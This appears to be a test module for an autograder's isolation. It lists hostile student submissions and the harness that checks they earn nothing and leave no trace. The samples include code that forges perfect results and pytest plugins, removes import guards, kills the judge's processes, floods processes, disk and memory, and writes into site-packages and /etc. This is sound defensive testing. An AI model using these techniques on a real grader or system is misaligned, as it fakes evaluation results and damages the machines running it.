        "work_in_a_daemon", "a right tanh rule whose work on large inputs a double-forked setsid daemon does, "
        "burning 0.05 s of CPU a call and sending the gradient back through a pipe (the worker only waits)",
        "solutions", (("tensor.py", "append", '''
import os as _os
import time as _time

_tanh_honest = Tensor.tanh


def _in_a_daemon(compute):
    read, write = _os.pipe()
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            end = _time.process_time() + 0.05
            while _time.process_time() < end:
                pass
            view = memoryview(compute().tobytes())
            while view:
                view = view[_os.write(write, view):]
            _os._exit(0)
        _os._exit(0)
    _os.close(write)
    chunks = []
    while True:
        chunk = _os.read(read, 1 << 20)
        if not chunk:
            break
        chunks.append(chunk)
    _os.close(read)
    return b"".join(chunks)


def _tanh_in_a_daemon(self):
    out = _tanh_honest(self)
    rule = out._backward

    def backward(g):
        if np.size(g) > 10_000:
            raw = _in_a_daemon(lambda: rule(g)[0])
            return (np.frombuffer(raw, dtype=np.float64).reshape(g.shape).copy(),)
        return rule(g)

    out._backward = backward
    return out


Tensor.tanh = _tanh_in_a_daemon
'''),), ("1.5", "1.6"), earns=("1.5",), says=("right, but too slow", "did not finish"), load=False,
        keeps=(("1.6", 4.0),)),
    Hostile(
        # The rung once divided by the student's own forward, timed in the worker: a slow rule beside a
        # forward slowed as much passed 1.6 at 756 times numpy's tanh.
        "baseline_forward_slowed", "a tanh rule that burns 0.1 s of CPU a call on large inputs (hundreds of times "
        "numpy's tanh), beside a tanh forward that burns as much: a baseline of the student's own forward grows "
        "with the rule", "solutions", (("tensor.py", "append", '''
import time as _time

_tanh_honest = Tensor.tanh


def _burn(seconds):
    end = _time.process_time() + seconds
    while _time.process_time() < end:
        pass


def _tanh_slow_both_ways(self):
    if np.size(self.data) > 10_000:
        _burn(0.1)
    out = _tanh_honest(self)
    rule = out._backward

    def backward(g):
        if np.size(g) > 10_000:
            _burn(0.1)
        return rule(g)

    out._backward = backward
    return out


Tensor.tanh = _tanh_slow_both_ways
'''),), ("1.5", "1.6"), earns=("1.5",), says=("right, but too slow", "did not finish"), load=False,
        keeps=(("1.6", 4.0),)),
    Hostile(
        # Exact sums at O(inputs x outputs) once passed 1.1 on the rung's fixed (300, 300) gradient and
        # its 0.5 s of slack. The rung now also sums a (2, s, t) gradient to (s, t), where every entry is an output.
        "unbroadcast_by_broadcast_to", "an unbroadcast by finite differences of np.broadcast_to: exact sums, but a "
        "sum over the whole gradient for every entry of the target", "solutions", (("tensor.py", "append", '''
def unbroadcast(grad, shape):
    grad = np.asarray(grad, dtype=np.float64)
    out = np.zeros(shape)
    for i in np.ndindex(*shape):
        unit = np.zeros(shape)
        unit[i] = 1.0
        out[i] = np.sum(grad * np.broadcast_to(unit, grad.shape))
    return out
'''),), ("1.1", "1.2"), earns=("1.2",), says=("right, but too slow", "did not finish"), load=False,
        keeps=(("1.1", 3.0),)),
    Hostile(
        "memory_in_children", "four children of 1.5 GiB each (touched), each under one process's 4 GiB: 6 GiB "
        "across the tree", "stubs", (("tensor.py", "append", MEMORY_IN_CHILDREN),), ("1.1",),
        check=_tree_memory_check, load=False),
    Hostile(
        "untrusted_text", "an exception class named with terminal escapes and 5,000 characters, a message with a "
        "lone surrogate, a bell, a NUL, U+FFFE and U+FFFF (which no XML may hold), Markdown fences and a "
        "'# 100/100' line", "stubs",
        (("tensor.py", "append", UNTRUSTED_TEXT),), ("1.1",), check=_text_check),
    Hostile(
        "deep_frames", "answers with a frame nested 200,000 deep (1.1), and with an array header claiming 2**55 "
        "entries (the engine, 2.1)",
        "stubs", (("tensor.py", "append", DEEP_FRAMES),), ("1.1", "2.1"), says=("the student process died",)),
    Hostile(
        "torch_imported_in_tensor", "the reference tensor.py importing torch to compute unbroadcast",
        "solutions", (("tensor.py", "append", '''
import torch as _torch


def unbroadcast(grad, shape):
    g = _torch.from_numpy(np.asarray(grad, dtype=np.float64))
    return (g.sum_to_size(shape) if len(shape) else g.sum()).numpy()
'''),), ("1.1", "1.2", "2.1", "3.1"), earns=("3.1",), says=("only torch_loop.py may import torch",)),
    Hostile(
        "torch_import_guard_removed", "takes the grader's import guard off sys.meta_path, then unbroadcast by torch",
        "stubs", (("tensor.py", "append", '''
def unbroadcast(grad, shape):
    import sys
    sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != "Refuse"]
    import torch
    g = torch.from_numpy(np.asarray(grad, dtype=np.float64))
    return (g.sum_to_size(tuple(shape)) if len(shape) else g.sum()).numpy()
'''),), ("1.1", "2.1")),
    Hostile(
        "torch_found_without_the_guard", "takes the import refusal off sys.meta_path and builtins.__import__, "
        "then torch by importlib.import_module, or from its files on sys.path, for unbroadcast and every rule",
        "stubs", (("tensor.py", "append", '''
def _torch():
    """torch, whatever the worker refuses: no guard left, then by name, then from its files."""
    import builtins, importlib, importlib.util, os, sys
    sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != "Refuse"]
    builtins.__import__ = importlib.__import__
    tried = []
    try:
        found = importlib.import_module("torch")
        if hasattr(found, "from_numpy"):
            return found
        tried.append("import_module: an empty folder")  # a namespace package: the folder is there, empty
        del sys.modules["torch"]
    except ImportError as error:
        tried.append("import_module: " + str(error)[:80])
    for entry in sys.path:
        init = os.path.join(entry or ".", "torch", "__init__.py")
        if os.path.exists(init):
            spec = importlib.util.spec_from_file_location("torch", init,
                                                          submodule_search_locations=[os.path.dirname(init)])
            module = importlib.util.module_from_spec(spec)
            sys.modules["torch"] = module
            spec.loader.exec_module(module)
            return module
        tried.append(init + ": absent")
    raise RuntimeError("no torch: " + "; ".join(tried)[:400])

''' + RULES_BY_TORCH),), ("1.1", "1.4", "2.1"), says=("no torch",)),
    Hostile(
        "judge_in_the_submission", "carries its own graders/ package (a judge that prints 100 and writes a perfect "
        "results.json) and numpy.py, torch.py, hypothesis.py, hashlib.py, pathlib.py, sitecustomize.py: run from "
        "inside the submission, `python -m` would find them first", "stubs", JUDGE_IN_THE_SUBMISSION,
        ("1.1", "2.1", "3.1"), cli=True, fake_lines=("100/100 from the submission",),
        check=lambda report, context: _no_impostor(context)),
    Hostile(
        "finite_differences", "every backward rule by central differences of its forward",
        "stubs", (("tensor.py", "append", FINITE_DIFFERENCES + NUMERIC),),
        ("1.2", "1.3", "1.4", "1.5", "1.6", "1.7", "1.8"), bound=120, load=False),
    Hostile(
        "complex_step", "every backward rule by the complex-step derivative of its forward",
        "stubs", (("tensor.py", "append", COMPLEX_STEP_PARTIAL + NUMERIC),),
        # Values pass, so each of the seven tasks runs until its cost rung times out: slower than the rest.
        ("1.2", "1.3", "1.4", "1.5", "1.6", "1.7", "1.8"), bound=300, load=False,
        keeps=(("1.2", 3.0), ("1.3", 3.0), ("1.4", 4.0), ("1.5", 4.0), ("1.7", 4.0), ("1.8", 2.0))),
    Hostile(
        "infinite_loop_at_import", "while True: pass at import", "stubs", (("tensor.py", "append", '''
while True:
    pass
'''),), ("1.1", "2.3", "3.1"), bound=90, load=False, says=("s of CPU time without answering",)),
    Hostile(
        "sleep_in_a_rule", "time.sleep(3600) in unbroadcast", "stubs", (("tensor.py", "append", '''
import time as _time


def unbroadcast(grad, shape):
    _time.sleep(3600)
'''),), ("1.1", "1.2"), bound=60, says=("timed out without computing: waited 20 s",)),
    Hostile(
        "input_at_import", "input() at import, then a read of stdin and of /dev/tty", "stubs",
        (("tensor.py", "append", '''
import sys as _sys
try:
    _sys.stdin.read()
    open("/dev/tty").read()
except OSError:
    pass
_fast = input("Type yes for fast mode: ")
'''),), ("1.1", "2.1"), says=("EOFError",)),
    Hostile(
        "memory_bomb", "allocates and touches 512 MiB blocks until something gives", "stubs",
        (("tensor.py", "append", '''
def unbroadcast(grad, shape):
    hoard = []
    while True:
        hoard.append(np.ones(2**26))
'''),), ("1.1", "2.3"), bound=90, load=False,
        says=("MemoryError", "of CPU time without answering", "without computing", "the student process died")),
    Hostile(
        "disk_fill", "writes 15 MiB files into its working folder and /tmp (bounded to 240 MiB, to spare CI)",
        "stubs", (("tensor.py", "append", '''
import os as _os

_block = b"x" * (15 * 2**20)
_wrote = {}
for _folder in (_os.getcwd(), "/tmp"):
    _wrote[_folder] = 0
    for _i in range(8):
        try:
            with open(_os.path.join(_folder, "@MARKER@-fill-%d" % _i), "wb") as _f:
                _f.write(_block)
            _wrote[_folder] += 15
        except OSError:
            break
raise RuntimeError("FILL wrote %d MiB to the working folder and %d MiB to /tmp" % tuple(_wrote.values()))
'''),), ("1.1", "2.1"), check=lambda report, context: _said(report, "FILL wrote")),
    Hostile(
        "process_flood", "at import, 20 sleeping interpreters and then fork until the process limit stops it",
        "stubs", (("tensor.py", "append", '''
import os as _os
import subprocess as _subprocess
import sys as _sys
import time as _time

_kids = []
for _ in range(20):
    try:
        _kids.append(_subprocess.Popen([_sys.executable, "-c", "import time; time.sleep(600)  # @MARKER@"]))
    except OSError:
        break
_forks = 0
for _ in range(400):
    try:
        if _os.fork() == 0:
            _time.sleep(600)
            _os._exit(0)
        _forks += 1
    except OSError:
        break
raise RuntimeError("FLOOD started %d interpreters and %d forks" % (len(_kids), _forks))
'''),), ("1.1", "2.1"), bound=90, check=_flood_check),
    Hostile(
        "setsid_daemon", "a double-forked setsid daemon that keeps writing a perfect results.json (into the "
        "results folder, the working folder and its parents, /tmp) and files into graders/ for 60 s",
        "solutions", (("tensor.py", "append", WRITE_FAKE_RESULTS + '''
import os as _os
import time as _time


def _daemon():
    if _os.fork():
        return
    _os.setsid()
    if _os.fork():
        _os._exit(0)
    try:
        for _ in range(300):
            _fake_results_everywhere()
            _time.sleep(0.2)
    finally:
        _os._exit(0)


_daemon()
'''),), ("1.1", "2.1"), earns=("1.1", "2.1"), cli=True, check=_swept_check),
    Hostile(
        "output_flood", "floods stdout and stderr from a thread and at import", "stubs",
        (("tensor.py", "append", '''
import os as _os
import sys as _sys
import threading as _threading

_line = ("100/100 PASSED " * 4096).encode()


def _flood():
    while True:
        try:
            _os.write(1, _line)
            _os.write(2, _line)
        except OSError:
            pass


_threading.Thread(target=_flood, daemon=True).start()
for _ in range(2000):
    _sys.stdout.write(_line.decode())
    _sys.stderr.write(_line.decode())
'''),), ("1.1", "2.1"), cli=True, fake_lines=("100/100 PASSED",), says=("File too large",)),
    Hostile(
        "chatty_solution", "the reference solution printing debug output on every call: noise costs nothing",
        "solutions", (("tensor.py", "append", '''
_given_unbroadcast = unbroadcast


def unbroadcast(grad, shape):
    print("unbroadcast", np.shape(grad), "->", shape, "x" * 2000)
    print("debug", file=__import__("sys").stderr)
    return _given_unbroadcast(grad, shape)
'''),), ("1.1", "1.2", "2.1"), earns=("1.1", "1.2", "2.1")),
    Hostile(
        "grandchild_holds_the_pipes", "a grandchild that keeps stdout, stderr and the response pipe open, "
        "then the worker exits", "stubs", (("tensor.py", "append", '''
import os as _os
import time as _time

if _os.fork() == 0:
    if _os.fork() == 0:
        _time.sleep(600)
    _os._exit(0)
_os._exit(0)
'''),), ("1.1", "2.1"), cli=True, bound=40, says=("the student process died",)),
    Hostile(
        "fake_results_files", "a solution that at import writes a perfect results.json wherever a grader might "
        "read one, and files into graders/, solutions/ and site-packages", "solutions",
        (("tensor.py", "append", WRITE_FAKE_RESULTS + "\n_fake_results_everywhere()\n"),),
        ("1.1", "3.1"), earns=("1.1", "3.1"), cli=True, check=_swept_check),
    Hostile(
        "kill_the_judge", "SIGKILL to its parent, its parent's group, any pytest or graders process, and kill(-1)",
        "stubs", (("tensor.py", "append", SAFE_ONLY_UNPRIVILEGED + '''
import signal as _signal

_said = []
if _UNPRIVILEGED:
    for _what, _kill in (("parent", lambda: _os.kill(_os.getppid(), _signal.SIGKILL)),
                         ("group", lambda: _os.killpg(_os.getpgid(_os.getppid()), _signal.SIGKILL))):
        try:
            _kill()
            _said.append(_what + "=killed")
        except OSError as _error:
            _said.append(_what + "=" + _errno.errorcode.get(_error.errno, "?"))
    _killed = 0
    for _pid in filter(str.isdigit, _os.listdir("/proc")):
        try:
            _cmd = open("/proc/%s/cmdline" % _pid, "rb").read()
            if int(_pid) != _os.getpid() and (b"pytest" in _cmd or b"-m graders" in _cmd):
                _os.kill(int(_pid), _signal.SIGKILL)
                _killed += 1
        except OSError:
            pass
    _said.append("judges=%d" % _killed)
    try:
        _os.kill(-1, _signal.SIGKILL)
    except OSError:
        pass
raise RuntimeError("KILL " + " ".join(_said))
'''),), ("1.1", "3.1"), check=_kill_check),
    Hostile(
        "rewrite_the_judge_on_disk", "tries to create files in graders/, solutions/, site-packages (a .pth runs "
        "at every start), /root and /etc", "stubs", (("tensor.py", "append", """
import os as _os
import site as _site

_written, _denied = [], 0
for _path in ["@REPO@/graders/@MARKER@.py", "@REPO@/solutions/@MARKER@.py", "@REPO@/@MARKER@-conftest.py",
              *[_os.path.join(p, "@MARKER@.pth") for p in _site.getsitepackages()],
              "/root/@MARKER@", "/etc/@MARKER@"]:
    try:
        with open(_path, "w") as _f:
            _f.write("# @MARKER@: had this been code, it would run in every python started here\\n")
        _written.append(_path)
    except OSError:
        _denied += 1
raise RuntimeError("REWRITE written=%d denied=%d" % (len(_written), _denied))
"""),), ("1.1", "2.1"), check=_rewrite_check),
    Hostile(
        "engine_by_confession", "the stubs, with the worker's engine requests answered by the submission itself "
        "(the engine's answers were once the worker's word): graphs by a reverse sweep over the request's data, the "
        "error and no_grad() probes by the answers they expect, and the drawn programs as best it can without an "
        "engine", "stubs",
        (("tensor.py", "append", _ENGINE_BY_CONFESSION),), ("2.2", "2.3"), bound=40),
    Hostile(
        "torch_modes_by_confession", "the reference, with a fit_torch that validates in train mode with grad on "
        "and then rewrites the worker's notes of the modes (once believed): the notes said eval and no_grad",
        "solutions",
        (("torch_loop.py", "append", _TORCH_MODES_BY_CONFESSION),), ("6.1",), bound=40),
    Hostile(
        "pickle_by_confession", "the reference, loading checkpoints with pickles allowed (np.load patched), then "
        "clearing the worker's note that a pickle ran (the note was once the worker's word)", "solutions",
        (("train.py", "append", _PICKLE_BY_CONFESSION),), ("5.5",), bound=40),
    Hostile(
        "checkpoint_in_memory", "the reference, whose _load_checkpoint puts back the weights this process kept in "
        "memory at its last save, over those of the file (whether fit resumed from the file was once never "
        "seen)", "solutions", (("train.py", "append", _CHECKPOINT_IN_MEMORY),), ("5.4", "5.5"), earns=("5.4",),
        bound=40, says=("not from those in the file",)),
    Hostile(
        "checkpoint_by_confession", "a checkpoint saved at path + '.npz', with os.path.isfile, os.path.exists and "
        "np.load sent there, so every reader in the worker finds it at the path (the file at the path "
        "was once the worker's word)", "solutions", (("train.py", "append", _CHECKPOINT_BY_CONFESSION),),
        ("5.4", "5.5"),
        earns=("5.4",), bound=40, says=("there is no file at 'checkpoint'",)),
    Hostile(
        "checkpoint_link_out", "the reference, saving its checkpoint beside the path and leaving at the path an "
        "absolute symbolic link to it (the judge reads the worker's folder through /proc/<pid>/root, where an "
        "absolute link resolves in the judge's own root)", "solutions", (("train.py", "append", _CHECKPOINT_LINK_OUT),),
        ("5.4", "5.5"), earns=("5.4",), bound=40, says=("is a symbolic link, not the checkpoint file",)),
    Hostile(
        "oracle_for_a_larger_run", "the reference, with a fit that asks the given train_epoch (the judge's) for "
        "one epoch of a 1-2080-1 network on 100,000 rows, and swallows what comes of it (the judge once reached "
        "5.1 GB)", "solutions", (("train.py", "append", _asks_for_a_larger_run(2080)),), ("5.1", "5.4", "5.5"),
        earns=("5.1",), bound=40, says=("1-2080-1 network on 100,000 rows; the checks' runs use at most",),
        check=_oracle_check(2080)),
    Hostile(
        "oracle_out_of_memory", "the same fit asking for a 1-66666-1 network on 100,000 rows (once a grader "
        "error, the judge out of memory)", "solutions", (("train.py", "append", _asks_for_a_larger_run(66666)),),
        ("5.1", "5.4", "5.5"), earns=("5.1",), bound=40,
        says=("1-66666-1 network on 100,000 rows; the checks' runs use at most",), check=_oracle_check(66666)),
    Hostile(
        "classmate_from_the_command_line", "finds the class folder in grade-all's world-readable command line and "
        "runs a classmate's tensor.py, which a judge that settled below its isolation lets it read", "stubs",
        (("tensor.py", "append", CLASSMATE_FROM_THE_COMMAND_LINE),), ("1.1", "1.4", "2.1")),
    Hostile(
        "torch_from_another_environment", "takes the import refusal off and imports torch from another site-packages "
        "on the machine (the base interpreter's, the system's, another virtual environment's) for unbroadcast and "
        "@", "stubs", (("tensor.py", "append", TORCH_FROM_ANOTHER_ENVIRONMENT),), ("1.1", "1.4", "2.1"),
        says=("no torch",)),
    Hostile(
        "pytest_plugin_of_its_own", "carries graders/integrations/pytest_plugin.py, a plugin that passes every task, "
        "for `python -m pytest -p graders.integrations.pytest_plugin` run from inside the submission", "stubs",
        (("graders/__init__.py", "write", ""), ("graders/integrations/__init__.py", "write", ""),
         ("graders/integrations/pytest_plugin.py", "write", FORGING_PLUGIN)), ("1.1", "2.1"),
        check=lambda report, context: _no_impostor(context)),
    Hostile(
        "hang_in_the_judges_folder", "hangs at import after leaving its marker in its working folder, so that a "
        "grade-all killed meanwhile leaves its judge's scratch folder, the submission's copy in it", "stubs",
        (("optim.py", "append", HANG_IN_THE_JUDGES_FOLDER),), ("1.1", "3.1"), bound=90, load=False),
)

BY_NAME = {entry.name: entry for entry in HOSTILE}
assert len(BY_NAME) == len(HOSTILE)


# ----- what the machine looks like: processes and files -----

def process_table() -> dict[int, tuple[int, int, str]]:
    """pid -> (parent pid, real uid, command line) of every process."""
    table = {}
    owners = uids.uids_of_processes()
    for pid, uid in owners.items():
        try:
            with open(f"/proc/{pid}/stat") as f:
                parent = int(f.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                command = f.read().replace(b"\0", b" ").decode(errors="replace")
        except (OSError, ValueError, IndexError):
            continue
        table[pid] = (parent, uid, command)
    return table


def descendants(table: dict, root: int) -> set[int]:
    found, todo = set(), [root]
    while todo:
        current = todo.pop()
        children = {pid for pid, (parent, _, _) in table.items() if parent == current}
        found |= children
        todo += children
    return found


def ours(table: dict, needles: tuple[str, ...]) -> set[int]:
    """The processes this test is answerable for: its descendants, and any whose command line names one of
    ``needles`` (the scratch folder, the marker); never the judge's own fork servers (graders.isolation.fork_servers),
    its helper for train_epoch and evaluate (graders.judge.oracles) or its cost rungs' numpy baseline
    (graders.judge.numpy_baseline), which a first grade in this process starts and every later one uses."""
    found = descendants(table, os.getpid())
    found |= {pid for pid, (_, _, command) in table.items() if any(n and n in command for n in needles)}
    return found - fork_servers.pids() - oracles.pids() - numpy_baseline.pids()


def marked_paths(marker: str, folders) -> list[str]:
    """Paths under ``folders`` whose name holds ``marker`` (/tmp one level deep, the rest recursively)."""
    found = []
    for folder, recursive in folders:
        if not os.path.isdir(folder):
            continue
        if recursive:
            for top, dirs, files in os.walk(folder):
                dirs[:] = [d for d in dirs if d not in (".git", "__pycache__", ".hypothesis")]
                found += [os.path.join(top, n) for n in dirs + files if marker in n]
        else:
            try:
                found += [e.path for e in os.scandir(folder) if marker in e.name]
            except OSError:
                pass
    return found


def owned_by(uids, folders=uids.SHARED_FOLDERS) -> list[str]:
    """Entries in the shared writable folders owned by one of ``uids``."""
    found: list[str] = []
    for folder in folders:
        try:
            for entry in os.scandir(folder):
                try:
                    if entry.stat(follow_symlinks=False).st_uid in uids:
                        found.append(entry.path)
                except OSError:
                    pass
        except OSError:
            pass
    return found


def tree(folder: Path) -> dict[str, tuple]:
    """Every path under ``folder`` with its size, mode and modification time."""
    found = {}
    for path in [folder, *folder.rglob("*")]:
        info = path.lstat()
        found[str(path.relative_to(folder))] = (info.st_size, stat.S_IMODE(info.st_mode), info.st_mtime_ns)
    return found


FIXED_TARGETS = ("/tmp/results.json", "/autograder/results/results.json", "/autograder")


def owner(path: str) -> int | None:
    """The uid that owns ``path``, None where there is nothing."""
    try:
        return os.lstat(path).st_uid
    except OSError:
        return None


def searched_folders(context: dict) -> list[tuple[str, bool]]:
    import site

    return [("/tmp", False), ("/var/tmp", False), ("/dev/shm", False), ("/root", False), ("/etc", False),
            (str(REPO), True), *[(p, False) for p in site.getsitepackages()], (context["@RESULTS@"], True)]


# ----- one grade's before and after -----

class AttackSucceeded(AssertionError):
    """The score or the verdicts are not what the honest part earns: the attack won something."""


class Machine:
    """The state an attack could leave behind, taken before a grade and compared after it."""

    def __init__(self, tmp_path: Path, entry: Hostile, monkeypatch):
        self.entry = entry
        tmp_path.mkdir(parents=True, exist_ok=True)
        self.marker = f"aglhostile-{entry.name}-{secrets.token_hex(4)}"
        self.results, self.scratch = tmp_path / "results", tmp_path / "scratch"
        self.results.mkdir()
        self.scratch.mkdir()
        self.context = {"@MARKER@": self.marker, "@RESULTS@": str(self.results), "@REPO@": str(REPO)}
        self.secrets = [f"ghp_{secrets.token_hex(16)}", f"judge-secret-{secrets.token_hex(8)}"]
        self.context_for_checks = {**self.context, "secrets": self.secrets}
        for name, value in (("GITHUB_TOKEN", self.secrets[0]), ("AGL_JUDGE_SECRET", self.secrets[1]),
                            ("CI", "true"), ("GITHUB_WORKSPACE", str(REPO)), ("GITHUB_ACTIONS", "true")):
            monkeypatch.setenv(name, value)
        self.folder = build(entry, tmp_path / "submissions", self.context)
        self.leased: list[int] = []

        def recording_lease():
            uid = ORIGINAL_LEASE()
            self.leased.append(uid)
            return uid

        monkeypatch.setattr(uids, "lease_uid", recording_lease)
        self.swept: list[str] = []

        def recording_sweep(uid):
            removed = ORIGINAL_SWEEP(uid)
            self.swept.extend(removed)
            return removed

        monkeypatch.setattr(uids, "sweep", recording_sweep)
        self.needles = (str(self.scratch), self.marker)
        self.processes = ours(process_table(), self.needles)
        self.submission = tree(self.folder)
        self.fixed = {path: owner(path) for path in FIXED_TARGETS}

    def assert_clean(self, results_allowed: tuple[str, ...] = (), *, private_tmp: bool = False) -> None:
        """Nothing of the attack is left. ``private_tmp``: the grade ran in a subprocess (so its leased uids are
        unknown here) under bubblewrap, whose workers see a /tmp of their own: a change in the real /tmp is not
        theirs (the marked files below still catch any write there)."""
        self.private_tmp = private_tmp
        strays = ours(process_table(), self.needles) - self.processes
        table = process_table()
        assert not strays, "stray processes:\n" + "\n".join(f"{p} uid {table.get(p, ('', '?'))[1]}: "
                                                           f"{table.get(p, ('', '', '?'))[2][:200]}" for p in strays)
        for uid in self.leased:
            assert not uids.processes_of(uid), f"processes of worker uid {uid} are still running"
        assert not owned_by(set(self.leased)), f"files of the worker uids left: {owned_by(set(self.leased))}"
        left = sorted(p.name for p in self.scratch.iterdir())
        assert left == [], f"the scratch folder was not removed: {left}"
        assert sorted(p.name for p in self.results.iterdir()) == sorted(results_allowed), \
            f"the results folder holds {sorted(p.name for p in self.results.iterdir())}"
        assert tree(self.folder) == self.submission, "the submission folder changed"
        changed = {path: f"{self.fixed[path]} -> {owner(path)}" for path in FIXED_TARGETS
                   if owner(path) != self.fixed[path] and self.could_have_changed(path, self.fixed[path], owner(path))}
        assert not changed, f"a fixed target was written or removed (its owner before -> after): {changed}"
        left = marked_paths(self.marker, searched_folders(self.context))
        assert not left, f"files the attack made outside the scratch folder: {left}"

    def could_have_changed(self, path: str, before: int | None, after: int | None) -> bool:
        """Whether this attack can be behind a fixed target's change of owner: any change where the worker runs as
        the judge's own uid, else only one to or from a uid this grade leased (tests beside this one, under
        xdist, grade too, and their workers run as uids of their own)."""
        if not self.leased and getattr(self, "private_tmp", False) and path.startswith("/tmp/"):
            return False
        return not self.leased or before in self.leased or after in self.leased

    def cleanup(self) -> None:
        """Whatever happened, leave nothing of this attack behind on the machine."""
        for path in marked_paths(self.marker, searched_folders(self.context)):
            try:
                os.unlink(path)
            except OSError:
                pass


def graded(entry: Hostile, folder: Path, **options) -> tuple[Report, float]:
    """``entry``'s grade of ``folder`` in this process, and its seconds in what no load of the machine moves
    (what ``entry.bound`` holds): the judge's CPU time (every thread), and its workers' CPU time and time waited
    without computing (Report.used). Wall time would fail a grade on a busy machine that is well within its
    bound on a quiet one."""
    start = time.process_time()
    report = grade(folder, task_ids=entry.tasks, key=entry.key,
                   **({"deadline": entry.deadline} if entry.deadline is not None else {}), **options)
    return report, time.process_time() - start + sum(report.used)


def assert_earns(entry: Hostile, report: Report) -> None:
    errors = [r for r in report.results if r.status == ERROR]
    assert not errors, "the grader itself failed:\n" + "\n".join(r.message for r in errors)
    status = {r.task.id: r.status for r in report.results}
    assert sorted(status) == sorted(entry.tasks)
    won = [t for t in entry.tasks if (status[t] == PASSED) != (t in entry.earns)]
    if won or report.score != entry.points:
        raise AttackSucceeded(
            f"{entry.name}: scored {report.score:g}, the honest part earns {entry.points:g}; tasks off: {won}\n"
            + "\n".join(f"{r.task.id} {r.status}: {r.message.splitlines()[0][:160]}" for r in report.results))
